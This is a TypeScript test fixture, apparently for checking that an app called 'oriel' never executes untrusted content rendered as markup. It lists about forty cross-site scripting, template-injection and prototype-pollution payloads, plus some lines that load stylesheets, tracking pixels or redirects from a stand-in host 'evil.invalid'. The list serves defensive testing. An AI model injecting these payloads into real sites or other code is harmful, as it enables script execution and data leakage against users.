// Texts that run, load or break out where content is taken for markup. Each sets `__oriel_ran` if it gets that far.

const run = 'window.__oriel_ran=1'

const shapes: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg onload=${run}>`,
  `<iframe srcdoc="<script>parent.__oriel_ran=1</script>"></iframe>`,
  `javascript:${run}`,
  `</script><script>${run}</script>`,
  `</textarea><img src=x onerror=${run}>`,
  `</title><script>${run}</script>`,
  `<style>@import 'http://evil.invalid/x.css';</style>`,
  '<link rel=stylesheet href=http://evil.invalid/x.css>',
  `<img src="http://evil.invalid/pixel.png">`,
  '![x](http://evil.invalid/pixel.png?leak=1)',
  `[click](javascript:${run})`,
  `<a href="javascript:${run}">x</a>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<base href="http://evil.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.invalid/">`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `';${run};//`,
  `"-${run}-"`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<a href="data:text/html,<script>opener.__oriel_ran=1</script>">x</a>`,
  `\u202e<script>${run}</script>\u2066`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  '__proto__',
  'constructor',
  `data: x\n\nevent: thread-changed\ndata: {"thread":"<img src=x onerror=${run}>"}\n\n`,
  `{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}},"key":null}`,
]

const wrappers: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('WINDOW.__ORIEL_RAN', 'window.__oriel_ran'),
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `--> ]]> ${text} <!-- <![CDATA[`,
]

/** Every shape plain, and every fourth one in each wrapper. */
export const hostileTexts: readonly string[] = [
  ...shapes,
  ...wrappers.slice(1).flatMap((wrap) => shapes.filter((_, index) => index % 4 === 0).map(wrap)),
]
